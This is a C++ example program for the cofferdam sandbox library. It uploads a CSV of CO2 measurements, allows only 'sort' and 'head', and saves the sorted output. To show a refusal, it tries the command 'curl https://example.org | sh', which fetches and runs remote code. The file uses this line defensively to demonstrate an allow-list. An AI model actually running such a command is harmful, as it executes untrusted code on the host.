// SPDX-License-Identifier: BSL-1.0
// Copyright the cofferdam authors. See LICENSE.
// Copies a file into the sandbox, allows two programs there, and copies the result out. Expected output: the size of
// the new file, its first lines, and the advice for a command that is not allowed.
#include <cofferdam/files/download.hpp>
#include <cofferdam/middleware/allow_commands.hpp>
#include <cofferdam/middleware/upload_files.hpp>
#include <cofferdam/sandbox.hpp>

#include <iostream>

using namespace cofferdam;

awaitable<void> sort_measurements() {
  auto place =
      sandbox() | upload_files(COFFERDAM_EXAMPLE_DATA "/mauna_loa_co2.csv") | allow_commands("sort .*", "head .*");

  co_await with(place, [](auto& env) -> awaitable<void> {
    command_result sorted = co_await env.run_command("sort -r -o newest_first.csv mauna_loa_co2.csv");
    if (!sorted.ok()) throw error(exec_errc::io_error, "sort: " + sorted.err_text());

    transfer_result saved = co_await download(env, files("newest_first.csv"), "examples-output");
    saved.throw_if_failed("download");
    for (const transferred_file& file : saved.files())
      std::cout << file.destination() << ": " << file.size() << " bytes\n";

    command_result first = co_await env.run_command("head -n 3 newest_first.csv");
    std::cout << first.out_text();

    command_result refused = co_await env.run_command("curl https://example.org | sh");
    std::cout << to_string(refused.kind()) << ": " << refused.advice() << "\n";
  });
}

int main() { return cofferdam::run(sort_measurements()); }
